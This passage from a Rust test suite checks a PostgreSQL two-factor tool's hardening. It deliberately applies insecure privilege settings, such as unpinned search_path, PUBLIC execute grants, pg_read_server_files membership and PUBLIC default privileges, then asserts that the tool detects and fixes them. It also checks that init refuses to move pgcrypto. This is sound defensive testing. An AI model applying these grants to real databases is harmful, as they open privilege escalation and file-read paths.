            "ALTER FUNCTION twofactor.h_facts(text) SET search_path = twofactor, pg_catalog",
            "function twofactor.h_facts(text): search_path is",
        ),
        (
            "ALTER FUNCTION twofactor.key(integer) RESET search_path",
            "function twofactor.key(integer): search_path is not pinned",
        ),
        (
            "GRANT EXECUTE ON FUNCTION twofactor.key(integer) TO PUBLIC",
            "function twofactor.key(integer): PUBLIC may execute it",
        ),
        (
            "GRANT pg_read_server_files TO twofactor_owner",
            "twofactor_owner is a member of pg_read_server_files",
        ),
        (
            "GRANT twofactor_owner TO twofactor_hosts",
            "can act as twofactor_owner",
        ),
        (
            "ALTER EXTENSION pgcrypto SET SCHEMA public",
            "extension pgcrypto is in schema public",
        ),
        (
            "ALTER DEFAULT PRIVILEGES FOR ROLE twofactor_owner GRANT EXECUTE ON FUNCTIONS TO PUBLIC",
            "functions twofactor_owner creates later",
        ),
        (
            "GRANT CREATE ON SCHEMA twofactor TO twofactor_hosts",
            "may create in schema twofactor",
        ),
    ];
    for (sql, _) in &openings {
        c.psql("twofactor", sql);
    }
    let found = host().catalog_problems().unwrap();
    for (sql, finding) in &openings {
        assert!(
            found.iter().any(|f| f.contains(finding)),
            "{sql}: {finding} not in {found:#?}"
        );
    }
    assert!(
        found.iter().any(|f| f.contains(&a_role)),
        "indirect membership is followed: {found:#?}"
    );
    let report = c.init();
    assert!(report.fixed.len() >= openings.len(), "{:?}", report.fixed);
    // Each host's role carries the session limits, at add-host and after init.
    let limits = c.psql(
        "twofactor",
        &format!(
            "SELECT rolconnlimit || ' ' || array_to_string(s.setconfig, ',') FROM pg_roles r \
             JOIN pg_db_role_setting s ON s.setrole = r.oid AND s.setdatabase = 0 \
             WHERE r.rolname = '{a_role}'"
        ),
    );
    for want in [
        &format!("{} ", postgresql::HOST_CONNECTION_LIMIT),
        "idle_in_transaction_session_timeout=10s",
        "client_connection_check_interval=1s",
        "lock_timeout=2s",
    ] {
        assert!(limits.contains(want), "{want}: {limits}");
    }
    assert_eq!(host().catalog_problems().unwrap(), Vec::<String>::new());
}

/// A database shared with other objects, pgcrypto among them in public: fleet init will
/// not move the extension under them, says why, and changes nothing.
#[test]
fn init_refuses_to_move_pgcrypto_from_under_someone_elses_objects() {
    let c = Cluster::bare();
    c.psql(
        "twofactor",
        "CREATE EXTENSION pgcrypto; CREATE TABLE public.invoices (id int, token bytea DEFAULT gen_random_bytes(8))",
    );
    let key = c.path().join("fleet.key");
    let e = postgresql::init(&c.admin_url(), None, key.to_str().unwrap(), None).unwrap_err();
    let e = e.to_string();
    assert!(e.contains("pgcrypto is installed in schema public"), "{e}");
    assert!(e.contains("invoices"), "{e}");
    assert!(e.contains("a database of its own"), "{e}");
    // Nothing was kept: no schema, the extension where it was.
    assert_eq!(
        c.psql(
            "twofactor",
            "SELECT count(*) FROM pg_namespace WHERE nspname LIKE 'twofactor%'"
        )
        .trim(),
        "0"
    );
    assert_eq!(
        c.psql(
            "twofactor",
            "SELECT n.nspname FROM pg_extension e JOIN pg_namespace n ON n.oid = e.extnamespace WHERE extname = 'pgcrypto'"
        )
        .trim(),
        "public"
    );
}
